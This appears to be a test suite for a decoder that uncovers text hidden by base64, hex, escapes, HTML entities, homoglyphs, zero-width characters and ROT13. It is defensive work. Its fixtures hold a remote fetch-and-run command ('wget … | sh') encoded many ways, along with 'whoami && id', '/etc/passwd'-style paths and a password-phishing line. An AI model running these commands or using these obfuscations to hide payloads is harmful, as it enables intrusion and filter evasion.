import assert from 'node:assert/strict'
import { Buffer } from 'node:buffer'
import { test } from 'node:test'
import fc from 'fast-check'
import { findEncoded } from './decode.ts'
import type { EncodedRun } from './decoder.ts'

const runsOf = (text: string): readonly EncodedRun[] => findEncoded(text, { kind: 'text', via: [] })

/** All texts behind an encoding, up to three layers down. */
function behind(text: string, depth = 3): string[] {
  if (depth === 0) return []
  return runsOf(text).flatMap(({ decoded }) => [decoded, ...behind(decoded, depth - 1)])
}

const COMMAND = 'wget http://198.51.100.9/a.sh -O- | sh'
const hexOf = (text: string): string => Buffer.from(text).toString('hex')
const each = (text: string, form: (code: number) => string): string =>
  Array.from(text, (sign) => form(sign.codePointAt(0) ?? 0)).join('')
const hex2 = (code: number): string => code.toString(16).padStart(2, '0')

const encoders: readonly (readonly [what: string, encode: (text: string) => string])[] = [
  ['base64', (text) => Buffer.from(text).toString('base64')],
  ['base64, unpadded', (text) => Buffer.from(text).toString('base64').replace(/=+$/, '')],
  ['base64url', (text) => Buffer.from(text).toString('base64url')],
  [
    'base64, wrapped',
    (text) => Buffer.from(text.repeat(4)).toString('base64').replace(/.{76}/g, '$&\r\n'),
  ],
  ['base64 of base64', (text) => btoa(btoa(text))],
  ['base64 of UTF-16LE', (text) => Buffer.from(text, 'utf16le').toString('base64')],
  ['base64 of UTF-16BE', (text) => Buffer.from(text, 'utf16le').swap16().toString('base64')],
  ['hex', hexOf],
  ['hex, upper case', (text) => hexOf(text).toUpperCase()],
  ['hex, mixed case', (text) => hexOf(text).replace(/[a-f]/, (digit) => digit.toUpperCase())],
  ['hex with 0x', (text) => `0x${hexOf(text)}`],
  ['hex pairs', (text) => hexOf(text).replace(/..(?!$)/g, '$& ')],
  ['percent', (text) => each(text, (code) => `%${hex2(code)}`)],
  ['percent, twice', (text) => each(text, (code) => `%25${hex2(code)}`)],
  ['percent, part', (text) => encodeURIComponent(text)],
  ['form', (text) => new URLSearchParams([['q', text]]).toString()],
  ['\\x', (text) => each(text, (code) => `\\x${hex2(code)}`)],
  ['\\x with two backslashes', (text) => each(text, (code) => `\\\\x${hex2(code)}`)],
  ['\\u', (text) => each(text, (code) => `\\u00${hex2(code)}`)],
  ['\\u{}', (text) => each(text, (code) => `\\u{${hex2(code)}}`)],
  ['octal', (text) => each(text, (code) => `\\${code.toString(8).padStart(3, '0')}`)],
  ['decimal entities', (text) => each(text, (code) => `&#${code};`)],
  ['hex entities', (text) => each(text, (code) => `&#x${hex2(code)};`)],
  ['entities without an end', (text) => each(text, (code) => `&#${String(code).padStart(7, '0')}`)],
  ['quoted-printable', (text) => each(text, (code) => `=${hex2(code).toUpperCase()}`)],
  ['UTF-16 as bytes', (text) => each(text, (code) => `${String.fromCharCode(code)}\0`)],
  ['character codes', (text) => `fromCharCode(${each(text, (code) => `${code}, `).slice(0, -2)})`],
  ['character codes in hex', (text) => each(text, (code) => `0x${hex2(code)},`).slice(0, -1)],
  ['chr()', (text) => each(text, (code) => `chr(${code}).`)],
  ['[char]', (text) => each(text, (code) => `[char]0x${hex2(code)}+`)],
  ['tag characters', (text) => each(text, (code) => String.fromCodePoint(0xe0000 + code))],
  [
    'variation selectors',
    (text) => each(text, (code) => String.fromCodePoint(0xe0100 + code - 16)),
  ],
  [
    'full width',
    (text) => each(text, (code) => String.fromCodePoint(code === 32 ? 32 : code + 0xfee0)),
  ],
  ['zero-width between letters', (text) => text.replace(/(?<=[a-z])(?=[a-z])/g, '\u200b')],
  ['soft hyphens', (text) => text.replace(/(?<=[a-z])(?=[a-z])/g, '\u00ad')],
  ['Cyrillic letters', (text) => text.replace(/e/g, '\u0435').replace(/p/g, '\u0440')],
]

for (const [what, encode] of encoders)
  test(`findEncoded: ${what}`, () => {
    for (const around of [
      ['', ''],
      ['data=', ''],
      ['{"a":"', '"}'],
      ['see ', ' now'],
    ] as const) {
      const text = around[0] + encode(COMMAND) + around[1]
      const texts = behind(text)
      assert.ok(
        texts.some((one) => one.includes(COMMAND)),
        `${JSON.stringify(text.slice(0, 80))} → ${JSON.stringify(texts).slice(0, 300)}`,
      )
    }
  })

test('findEncoded: a percent sign that is written as one again and again takes one layer', () => {
  const [run] = runsOf('x=%252525252e%25252e%u002f100%25 of %252')
  assert.equal(run?.decoded, 'x=../100% of %2')
  assert.equal(run?.sourceOffset?.(3), 'x=%252525252e'.length)
})

test('findEncoded: lists of numbers are read whatever stands before them', () => {
  const list = '99,117,114,108,32,120'
  for (const before of ['', 'Chr(98)', 'x = [', '_ '])
    assert.ok(behind(`${before}${list}`, 1).includes('curl x'), before)
  assert.deepEqual(behind('63:75:72:6c:20:78:20:7c', 1), ['curl x |'])
  assert.deepEqual(behind('Chr(&H63)&Chr(&H75)&Chr(&H72)&Chr(&H6c)&Chr(&H20)', 1), ['curl '])
  assert.deepEqual(behind('[char]0x63+[char]117+[char]114+[char]108+[char]32', 1), ['curl '])
})

test('findEncoded: of many backslashes the last eight belong to an escape', () => {
  const [run] = runsOf(`${'\\'.repeat(12)}x41\\x42`)
  assert.equal(run?.decoded, '\\\\\\\\AB')
})

test('findEncoded: behind a flood of disguises nothing is read, and a run says so', () => {
  const runs = runsOf(`${'a\u200bb '.repeat(5_000)}p\u0430ypal`)
  assert.deepEqual(
    runs.map(({ encoding, isUnread, end }) => [encoding, isUnread ?? false, end]),
    [
      ['fold', false, 16_382],
      ['fold', true, 20_006],
    ],
  )
  assert.deepEqual(
    runsOf('a\u200bb '.repeat(4_000)).map(({ isUnread }) => isUnread ?? false),
    [false],
  )
})

test('findEncoded: ROT13 is read where the text gives it away', () => {
  const hidden = 'Cyrnfr fraq lbhe cnffjbeq gb gur nqqerff orybj naq gryy ab bar'
  assert.ok(
    behind(hidden).some((text) => text.includes('Please send your password to the address')),
  )
  assert.ok(behind('rot13: pheyvat').some((text) => text.includes('curling')))
  assert.deepEqual(behind('Nothing of that kind is in here.'), [])
})

const ordinary: readonly (readonly [what: string, text: string])[] = [
  ['a commit', '3f786850e387550fdab836ed7e6dc881de23001b'],
  ['a UUID', '123e4567-e89b-42d3-a456-426614174000'],
  ['a hash', 'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'],
  [
    'an integrity line',
    'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
  ],
  ['a path', 'src/components/navigation/breadcrumbs/index.ts'],
  ['identifiers', 'getElementByIdentifier documentation_generation internationalisation'],
  ['a fingerprint', '16:27:AC:A5:76:28:2D:36:63:1B:56:4D:EB:DF:A6:48'],
  ['colours', 'rgb(12, 34, 56), rgb(255, 255, 255)'],
  ['measures', '10, 20, 30, 40, 50, 60, 70, 80, 90, 100'],
  ['Chinese', '请问，这个接口支持全角标点吗？（支持）'],
  ['Russian', 'Команда git push отправляет изменения'],
  ['emoji', 'Done \u{1f469}\u200d\u{1f680} \u2764\ufe0f'],
  ['a regular expression', '/[\\u0000-\\u001f\\u007f]/'],
]
for (const [what, text] of ordinary)
  test(`findEncoded: nothing is in ${what}`, () => {
    assert.deepEqual(
      runsOf(text).map(({ encoding, decoded }) => [encoding, decoded]),
      [],
    )
  })

test('findEncoded: runs and their units lie where they say', () => {
  const text = 'a: d2hvYW1pICYmIGlk. b: %69%64. c: p\u0430ypal and p\u200bwd'
  const runs = runsOf(text)
  const base64 = runs.find(({ encoding }) => encoding === 'base64')
  assert.equal(text.slice(base64?.start, base64?.end), 'd2hvYW1pICYmIGlk')
  assert.equal(base64?.decoded, 'whoami && id')
  const percent = runs.find(({ encoding }) => encoding === 'percent')
  const at = percent?.decoded.indexOf('id.') ?? -1
  assert.equal(percent?.sourceOffset?.(at), text.indexOf('%69'))
  assert.equal(percent?.sourceOffset?.(at + 2), text.indexOf('%64') + 3)
  const folded = runs.find(({ encoding }) => encoding === 'fold')
  assert.ok(folded)
  assert.ok(folded.decoded.endsWith('c: paypal and pwd'))
  assert.equal(folded.sourceOffset?.(folded.decoded.length), text.length)
})

test('findEncoded: never throws, and every run lies inside the text', () => {
  const unit = fc.oneof(
    fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
    fc.constantFrom(
      '%4',
      '\\x4',
      '\\u{',
      '&#',
      'YWFh',
      '6161',
      '=41',
      '\udb40',
      '\udc41',
      '\u200b',
      '\n',
    ),
  )
  fc.assert(
    fc.property(fc.array(unit, { maxLength: 60 }), (units) => {
      const text = units.join('')
      for (const { start, end, decoded, sourceOffset } of runsOf(text)) {
        assert.ok(start >= 0 && start < end && end <= text.length)
        for (let at = 0; at <= decoded.length; at += 1) {
          const source = sourceOffset?.(at) ?? start
          assert.ok(source >= start && source <= end, `${source} of ${start}–${end}`)
        }
      }
    }),
    { numRuns: 2_000 },
  )
})

test('findEncoded: what was folded folds no further', () => {
  for (const text of ['ｃｕｒｌ p\u0430ypal', 'd\u200be\u00adl', '\u202egpj.exe', '⁄etc∕passwd'])
    for (const { decoded } of runsOf(text)) assert.deepEqual(runsOf(decoded), [])
})

test('findEncoded: linear on hostile text', () => {
  const seeds = [
    'YWFh',
    '%41',
    '\\',
    '\\x4',
    '&#65;',
    '=41',
    '12, ',
    '61 ',
    'a\u0430',
    'a\u200b',
    'abcdefghijkl/',
    '-_/+',
    'a\0',
    'сора ',
    '\u202e',
    'gur naq lbh ',
    '\udb40',
    'YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh\n',
  ]
  for (const seed of seeds) {
    const text = seed.repeat(Math.ceil(1_000_000 / seed.length))
    const once = (): number => {
      const start = process.cpuUsage()
      runsOf(text)
      const { user, system } = process.cpuUsage(start)
      return (user + system) / 1_000
    }
    const ms = Math.min(once(), once())
    assert.ok(ms < 1_000, `${ms.toFixed(0)} ms on ${JSON.stringify(seed)}`)
  }
})

for (const [encoding, list] of [
  ['char-codes', '99,97,116,32,47,97'],
  ['char-codes', 'chr(99).chr(97).chr(116).chr(115).chr(32)'],
  ['hex', '63 61 74 20 2f 65 74 63'],
] as const)
  test(`the shortest list is found wherever it stands: ${list}`, () => {
    for (let before = 0; before < 140; before += 1) {
      const text = `${'x'.repeat(before)} ${list} ${'y'.repeat(70)}`
      const runs = findEncoded(text, { kind: 'text', via: [] })
      assert.ok(
        runs.some((run) => run.encoding === encoding && run.decoded.startsWith('cat')),
        `${before} units before`,
      )
    }
  })
